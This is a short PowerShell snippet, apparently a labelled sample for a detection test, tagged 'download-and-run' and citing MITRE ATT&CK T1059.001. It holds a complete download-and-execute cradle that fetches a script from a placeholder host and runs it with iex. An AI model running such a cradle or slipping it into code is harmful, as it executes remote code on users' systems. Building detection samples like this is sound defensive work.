# expect: download-and-run | source: MITRE ATT&CK T1059.001
$r = [System.Net.WebRequest]::Create('http://files.example.invalid/stage').GetResponse()
$s = New-Object IO.StreamReader($r.GetResponseStream())
iex $s.ReadToEnd()
